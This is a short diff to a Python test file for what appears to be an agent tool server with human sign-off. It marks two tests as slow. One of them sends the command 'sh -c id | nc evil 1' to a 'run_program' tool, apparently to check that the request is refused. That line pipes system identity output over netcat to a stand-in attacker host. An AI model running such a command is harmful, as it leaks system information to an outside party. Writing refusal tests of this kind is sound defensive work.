@@ -71,6 +71,7 @@ def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: 
     assert event["data"]["run"] == run.run_id
 
 
+@pytest.mark.slow
 def test_the_same_call_finds_the_same_request_and_its_answer_is_given_once(place: Place, run: AgentRun) -> None:
     now = {**ASK, "wait_sec": 0}
 
@@ -156,6 +157,7 @@ def test_a_daemon_that_is_dead_or_stopped_is_said_and_loses_nothing(place: Place
         assert with_door(place, run, to_the_end)["status"] == "succeeded"
 
 
+@pytest.mark.slow
 def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
     async def work(client: Client) -> None:
         said = await client.call_tool("run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."})
